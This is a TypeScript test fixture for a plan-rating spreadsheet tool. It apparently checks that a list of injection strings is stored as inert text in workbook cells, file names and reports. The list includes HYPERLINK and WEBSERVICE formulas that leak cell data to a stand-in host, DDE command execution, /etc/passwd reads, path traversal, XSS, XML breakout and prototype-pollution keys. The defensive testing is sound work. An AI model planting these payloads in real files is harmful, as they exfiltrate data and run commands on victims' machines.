/** Texts that would do something if they were taken for anything but text, and the workbooks that they are put through. */
import { editWorkbook, readWorkbook, writeWorkbook } from '../../src/files';
import { assessWorkbook } from '../../src/plan/workbook';
import { EMPTY_STATE } from '../../src/plan/state';
import { buildReport, drawReport, type DrawnRow } from '../../src/report';

export const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
  '=WEBSERVICE("http://192.0.2.1/"&A1)',
  "=cmd|'/c calc'!A0",
  '+cmd|calc!A0',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '{=1+1}',
  'DDE("cmd";"/c calc";"x")',
  'javascript:alert(1)',
  'file:///etc/passwd',
  '\\\\192.0.2.1\\share\\x.xlsx',
  '../../../../etc/passwd',
  '<img src=x onerror=alert(1)>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '_x003D_1+1',
  '&[Path]&F',
  '__proto__',
  'constructor',
] as const;

const PROPERTIES = { title: 'Test', author: 'Plan RAG', language: 'en-GB' };
const HEADER = ['Ref', 'Action', 'Lead', 'Due date', 'Progress', 'RAG'];

const rowOf = (texts: readonly string[]): DrawnRow => ({
  cells: texts.map((text, column) => ({ column, value: { kind: 'text', text }, style: {} })),
});

/** A plan whose every row holds one of the texts in one or more of its cells. */
export const planWith = (texts: readonly string[], title = 'Plan'): Uint8Array =>
  writeWorkbook(
    [
      {
        name: title,
        columnWidths: [],
        rows: [
          rowOf(HEADER),
          ...texts.map((text, index) => rowOf([`1.${index + 1}`, text, text, '31 March 2014', text, 'Red'])),
        ],
        tables: [],
        charts: [],
        print: { orientation: 'landscape', paper: 'A4', fitToWidth: true },
      },
    ],
    PROPERTIES,
  );

/** The report over a plan, under a file name that is one of the texts too. */
export function reportOn(plan: Uint8Array, file: string): Uint8Array {
  const { plans } = assessWorkbook(readWorkbook(plan, file).snapshot, {
    asAt: '2014-10-15',
    state: EMPTY_STATE,
    asked: 'brag',
  });
  const sources = plans.map((assessed) => ({ file, assessed }));
  const report = buildReport({ asAt: '2014-10-15', sources, unread: [{ file, why: file }] });
  return writeWorkbook(drawReport(report), PROPERTIES);
}

/** The plan saved with the texts written into it, as ratings are. */
export const savedPlan = (plan: Uint8Array, sheet: string, texts: readonly string[]): Uint8Array =>
  editWorkbook(
    plan,
    texts.map((value, index) => ({ kind: 'cell', sheet, row: index + 1, column: 5, value })),
  );
